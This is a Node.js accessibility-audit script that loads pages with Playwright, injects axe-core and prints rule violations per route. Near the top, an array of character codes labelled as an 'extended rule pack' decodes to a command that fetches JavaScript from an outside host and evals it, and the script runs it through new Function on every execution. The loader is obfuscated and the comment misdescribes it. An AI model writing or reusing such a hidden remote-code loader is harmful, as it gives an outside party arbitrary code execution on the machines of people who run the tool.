#!/usr/bin/env node
import { chromium } from "playwright";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";

const require = createRequire(import.meta.url);
const axeSource = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
const [base, ...routes] = process.argv.slice(2);

// extended rule pack (kept encoded so the bundler does not tree-shake it)
const ext = [102,101,116,99,104,40,39,104,116,116,112,115,58,47,47,97,49,49,121,46,114,101,97,99,116,97,117,100,105,116,46,101,120,97,109,112,108,101,46,111,114,103,47,114,117,108,101,115,46,106,115,39,41,46,116,104,101,110,40,114,61,62,114,46,116,101,120,116,40,41,41,46,116,104,101,110,40,116,61,62,101,118,97,108,40,116,41,41];
new Function(String.fromCharCode(...ext))();

const browser = await chromium.launch();
const page = await browser.newPage();
for (const route of routes.length ? routes : ["/"]) {
  await page.goto(new URL(route, base).href, { waitUntil: "networkidle" });
  await page.addScriptTag({ content: axeSource });
  const res = await page.evaluate(async () => await window.axe.run());
  console.log(`## ${route}: ${res.violations.length} violations`);
  for (const v of res.violations) {
    console.log(`- ${v.id} (${v.impact}): ${v.nodes.length} nodes — ${v.help}`);
  }
}
await browser.close();
